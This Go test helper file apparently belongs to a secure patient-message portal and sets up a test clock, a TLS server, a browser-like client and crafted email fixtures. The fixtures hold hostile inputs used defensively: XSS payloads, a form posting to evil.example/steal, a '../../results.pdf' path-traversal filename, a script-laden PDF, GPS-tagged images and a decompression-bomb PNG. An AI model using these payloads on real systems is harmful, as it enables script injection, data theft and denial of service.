package portal

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"log/slog"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/phigate/phigate/configs"
	"github.com/phigate/phigate/vault"
	"github.com/phigate/phigate/vault/links"
	"github.com/phigate/phigate/vault/queue"
)

// clock is a settable test clock. A real clock follows time.Now plus the
// offsets added, so a browser test can run in real time and still jump a
// link past its reminder time.
type clock struct {
	mu   sync.Mutex
	t    time.Time
	real bool
	off  time.Duration
}

func (c *clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.real {
		return time.Now().Add(c.off)
	}
	return c.t
}

func (c *clock) Add(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.off += d
	c.mu.Unlock()
}

type env struct {
	t     testing.TB
	cfg   *configs.Config
	v     *vault.Vault
	srv   *Server
	clk   *clock
	base  string
	kicks atomic.Int64
	// onKick, when set before the server starts, also runs on each kick
	// (the relay harness wakes the real delivery manager).
	onKick func()
}

func newEnv(t testing.TB, mutate ...func(*configs.Config)) *env {
	t.Helper()
	dir := t.TempDir()
	cfg, err := configs.Load("", []string{"PHIGATE_DATA_DIR=" + dir, "PHIGATE_PRACTICE_PHONE=+1 555 0100"})
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range mutate {
		m(cfg)
	}
	clk := &clock{t: time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)}
	return newEnvClock(t, cfg, clk)
}

// newEnvClock is newEnv with a given config and clock.
func newEnvClock(t testing.TB, cfg *configs.Config, clk *clock) *env {
	t.Helper()
	dir := cfg.DataDir
	v, err := vault.Open(context.Background(), vault.Options{Dir: dir + "/vault", MasterKey: bytes.Repeat([]byte{7}, 32),
		Now: clk.Now, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { v.Close() })
	e := &env{t: t, cfg: cfg, v: v, clk: clk}
	e.srv, err = New(Options{Config: cfg, Vault: v, Now: clk.Now, Kick: func() {
		e.kicks.Add(1)
		if e.onKick != nil {
			e.onKick()
		}
	},
		Log: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// listen starts the real TLS listener on 127.0.0.1:0.
func (e *env) listen() string {
	e.t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		e.t.Fatal(err)
	}
	return e.serve(ln)
}

// serve serves the portal on ln until the test ends.
func (e *env) serve(ln net.Listener) string {
	e.t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.srv.Serve(ctx, ln) }()
	e.t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			e.t.Errorf("Serve: %v", err)
		}
	})
	e.base = "https://" + ln.Addr().String()
	return e.base
}

// seal stores raw as a sealed record and issues a link, the way the gateway
// pipeline does, returning the token.
func (e *env) seal(raw []byte, rcpt, channel string) (token string, l *links.Link) {
	e.t.Helper()
	now := e.clk.Now()
	id := links.NewID() + "00000000"
	b := e.v.NewBatch()
	if err := b.Seal(id, raw, vault.RecordMeta{Kind: channel, Created: now, Expires: now.Add(e.cfg.Portal.LinkTTL), Size: int64(len(raw))}); err != nil {
		e.t.Fatal(err)
	}
	n := links.EmailTokenBytes
	if channel == queue.ChannelSMS {
		n = links.SMSTokenBytes
	}
	tok, l, err := links.Issue(id, "m"+id, rcpt, channel, n, now, e.cfg.Portal.LinkTTL)
	if err != nil {
		e.t.Fatal(err)
	}
	if err := links.Put(b, l); err != nil {
		e.t.Fatal(err)
	}
	if err := e.v.Commit(context.Background(), b); err != nil {
		e.t.Fatal(err)
	}
	return tok, l
}

func (e *env) link(token string) *links.Link {
	e.t.Helper()
	l, err := links.Lookup(context.Background(), e.v, token)
	if err != nil {
		e.t.Fatal(err)
	}
	return l
}

func (e *env) queued(kind string) []*queue.Item {
	e.t.Helper()
	items, err := queue.Due(context.Background(), e.v, e.clk.Now().Add(time.Hour), 1000)
	if err != nil {
		e.t.Fatal(err)
	}
	var out []*queue.Item
	for _, it := range items {
		if it.Kind == kind {
			out = append(out, it)
		}
	}
	return out
}

// client is a browser-ish HTTPS client: cookie jar, no redirects followed.
type client struct {
	t    testing.TB
	base string
	hc   *http.Client
	lang string
}

func (e *env) client() *client {
	jar := newJar()
	return &client{t: e.t, base: e.base, lang: "en", hc: &http.Client{
		Jar:     jar,
		Timeout: 20 * time.Second,
		Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
			ForceAttemptHTTP2: false},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}}
}

type resp struct {
	Code   int
	Header http.Header
	Body   string
}

func (c *client) do(method, path string, body io.Reader, ctype string) *resp {
	c.t.Helper()
	req, err := http.NewRequest(method, c.base+path, body)
	if err != nil {
		c.t.Fatal(err)
	}
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	req.Header.Set("Accept-Language", c.lang)
	res, err := c.hc.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return &resp{Code: res.StatusCode, Header: res.Header, Body: string(b)}
}

func (c *client) get(path string) *resp { return c.do("GET", path, nil, "") }

func (c *client) post(path string, form url.Values) *resp {
	return c.do("POST", path, strings.NewReader(form.Encode()), "application/x-www-form-urlencoded")
}

var csrfRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

func csrfOf(t testing.TB, body string) string {
	t.Helper()
	m := csrfRE.FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no csrf token in page:\n%s", body)
	}
	return m[1]
}

// verifyDOB opens the landing page and passes the date-of-birth check.
func (c *client) verifyDOB(token, y, m, d string) *resp {
	c.t.Helper()
	r := c.get("/s/" + token)
	if r.Code != 200 {
		c.t.Fatalf("landing: %d", r.Code)
	}
	return c.post("/s/"+token+"/verify", url.Values{"csrf": {csrfOf(c.t, r.Body)}, "year": {y}, "month": {m}, "day": {d}})
}

// ---- test messages ----

// exifJPEG is a real JPEG with an APP1 EXIF segment carrying a GPS marker
// string and a COM segment.
func exifJPEG(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 7), uint8(y * 5), uint8(x ^ y), 255})
		}
	}
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, img, &jpeg.Options{Quality: 90}); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	exif := append([]byte("Exif\x00\x00MM\x00*GPSLatitude=40.7128N;GPSLongitude=74.0060W;"), bytes.Repeat([]byte{0}, 32)...)
	seg := append([]byte{0xFF, 0xE1, byte((len(exif) + 2) >> 8), byte(len(exif) + 2)}, exif...)
	com := []byte("SECRET-COMMENT")
	seg = append(seg, 0xFF, 0xFE, byte((len(com)+2)>>8), byte(len(com)+2))
	seg = append(seg, com...)
	out := append([]byte{0xFF, 0xD8}, seg...)
	return append(out, b[2:]...)
}

// xssHTML carries the payloads that must never execute.
const xssHTML = `<html><head><style>body{background:url(https://evil.example/bg)} p{width:expression(document.title='pwned-css')}</style>
<script>document.title='pwned-script';window.pwned=1</script></head><body>
<p id="main">Hello, your results are ready.</p>
<img src="x" onerror="document.title='pwned-onerror';window.pwned=1">
<a href="javascript:document.title='pwned-js';window.pwned=1" id="jslink">click</a>
<div style="width: expression(document.title='pwned-expr')">styled</div>
<svg onload="document.title='pwned-svg';window.pwned=1"><script>window.pwned=1</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="dob"><button>go</button></form>
<img src="https://tracker.example/pixel.gif" alt="tracker">
<p>Inline photo: <img src="cid:photo1@example" alt="inline photo"></p>
<object data="https://evil.example/x.swf"></object>
<a href="https://example.org/info">More info</a>
</body></html>`

// testMessage is an email with text and HTML alternatives (XSS payloads in
// the HTML), an inline cid image and an attached photo with EXIF, and a PDF.
func testMessage(t testing.TB, photo []byte, extraText string) []byte {
	return testMessageFrom(t, "Dr. Rivera <rivera@clinic.example>", "<pat@example.com>", "Your lab results", photo, extraText)
}

// testPDF is the attachment of testMessage: a PDF whose bytes would be
// script if a browser sniffed it as HTML.
const testPDF = "%PDF-1.4\n% test results\n<html><script>alert(1)</script></html>\n%%EOF\n"

// testMessageFrom is testMessage with its own From, To and Subject.
func testMessageFrom(t testing.TB, from, to, subject string, photo []byte, extraText string) []byte {
	t.Helper()
	var b bytes.Buffer
	mixed := multipart.NewWriter(&b)
	var out bytes.Buffer
	out.WriteString("From: " + from + "\r\nTo: " + to + "\r\nSubject: " + subject + "\r\n" +
		"Date: Sun, 01 Mar 2026 11:00:00 +0000\r\nMessage-ID: <orig-1@clinic.example>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"" + mixed.Boundary() + "\"\r\n\r\n")
	rel := &bytes.Buffer{}
	altW := multipart.NewWriter(rel)
	tp, _ := altW.CreatePart(map[string][]string{"Content-Type": {"text/plain; charset=utf-8"}})
	tp.Write([]byte("Hello, your results are ready. <script>alert(1)</script>\n" + extraText))
	hp, _ := altW.CreatePart(map[string][]string{"Content-Type": {"text/html; charset=utf-8"}})
	hp.Write([]byte(xssHTML))
	altW.Close()
	ap, _ := mixed.CreatePart(map[string][]string{"Content-Type": {"multipart/alternative; boundary=\"" + altW.Boundary() + "\""}})
	ap.Write(rel.Bytes())
	enc := func(data []byte) []byte {
		s := base64.StdEncoding.EncodeToString(data)
		var o bytes.Buffer
		for len(s) > 76 {
			o.WriteString(s[:76] + "\r\n")
			s = s[76:]
		}
		o.WriteString(s + "\r\n")
		return o.Bytes()
	}
	ip, _ := mixed.CreatePart(map[string][]string{"Content-Type": {"image/jpeg"}, "Content-Transfer-Encoding": {"base64"},
		"Content-Id": {"<photo1@example>"}, "Content-Disposition": {"inline"}})
	ip.Write(enc(photo))
	pp, _ := mixed.CreatePart(map[string][]string{"Content-Type": {"image/jpeg"}, "Content-Transfer-Encoding": {"base64"},
		"Content-Disposition": {`attachment; filename="wound.jpg"`}})
	pp.Write(enc(photo))
	fp, _ := mixed.CreatePart(map[string][]string{"Content-Type": {"application/pdf"}, "Content-Transfer-Encoding": {"base64"},
		"Content-Disposition": {`attachment; filename="../../results.pdf"`}})
	fp.Write(enc([]byte(testPDF)))
	mixed.Close()
	out.Write(b.Bytes())
	return out.Bytes()
}

// cookie jar that ignores the Secure-on-https subtleties of net/http's jar.
type jar struct {
	mu sync.Mutex
	m  map[string]*http.Cookie
}

func newJar() *jar { return &jar{m: map[string]*http.Cookie{}} }

func (j *jar) SetCookies(_ *url.URL, cs []*http.Cookie) {
	j.mu.Lock()
	defer j.mu.Unlock()
	for _, c := range cs {
		if c.MaxAge < 0 || c.Value == "" {
			delete(j.m, c.Name)
			continue
		}
		j.m[c.Name] = c
	}
}

func (j *jar) Cookies(*url.URL) []*http.Cookie {
	j.mu.Lock()
	defer j.mu.Unlock()
	var out []*http.Cookie
	for _, c := range j.m {
		out = append(out, &http.Cookie{Name: c.Name, Value: c.Value})
	}
	return out
}

// pngWithText is a PNG with a tEXt chunk naming a place.
func pngWithText(t testing.TB) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 8, 8))
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	data := []byte("Comment\x00GPS 40.7128N 74.0060W")
	chunk := make([]byte, 8, 12+len(data))
	binary.BigEndian.PutUint32(chunk, uint32(len(data)))
	copy(chunk[4:], "tEXt")
	chunk = append(chunk, data...)
	crc := crc32.ChecksumIEEE(chunk[4:])
	chunk = binary.BigEndian.AppendUint32(chunk, crc)
	// after IHDR (8 sig + 25 IHDR)
	out := append([]byte{}, b[:33]...)
	out = append(out, chunk...)
	return append(out, b[33:]...)
}

// pngHeaderOnly is a PNG that claims w×h pixels and holds none: a decoder
// that trusted it would allocate w*h*4 bytes.
func pngHeaderOnly(t testing.TB, w, h int) []byte {
	t.Helper()
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr, uint32(w))
	binary.BigEndian.PutUint32(ihdr[4:], uint32(h))
	ihdr[8], ihdr[9] = 8, 6 // 8-bit RGBA
	chunk := func(typ string, data []byte) []byte {
		c := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		c = append(c, typ...)
		c = append(c, data...)
		return binary.BigEndian.AppendUint32(c, crc32.ChecksumIEEE(c[4:]))
	}
	out := append([]byte{}, pngSig...)
	out = append(out, chunk("IHDR", ihdr)...)
	out = append(out, chunk("IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})...)
	return append(out, chunk("IEND", nil)...)
}
